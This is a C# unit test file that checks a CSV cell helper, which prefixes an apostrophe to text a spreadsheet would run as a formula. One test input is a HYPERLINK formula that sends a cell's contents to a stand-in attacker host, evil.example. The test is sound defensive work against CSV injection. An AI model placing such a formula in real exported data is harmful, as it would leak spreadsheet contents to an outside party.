using Tributary.Core.Warehousing;
using Tributary.Server.Api;

namespace Tributary.Cli.Tests.Server;

/// <summary>Cells of the UI's CSV downloads, which marketers open in a spreadsheet.</summary>
public sealed class CsvCellTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"")]
    [InlineData("+1 555 0100", "'+1 555 0100")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\tcmd", "'\tcmd")]
    [InlineData("Ada", "Ada")]
    [InlineData("a=b", "a=b")]
    [InlineData("", "")]
    public void Text_ThatASpreadsheetWouldRunAsAFormula_GetsALeadingApostrophe(string text, string cell) =>
        Assert.Equal(cell, CsvCell.Of(text, DataKind.Text));

    [Fact]
    public void Numbers_AreNeverChanged() => Assert.Equal("-2.5", CsvCell.Of(-2.5, DataKind.Number));
}
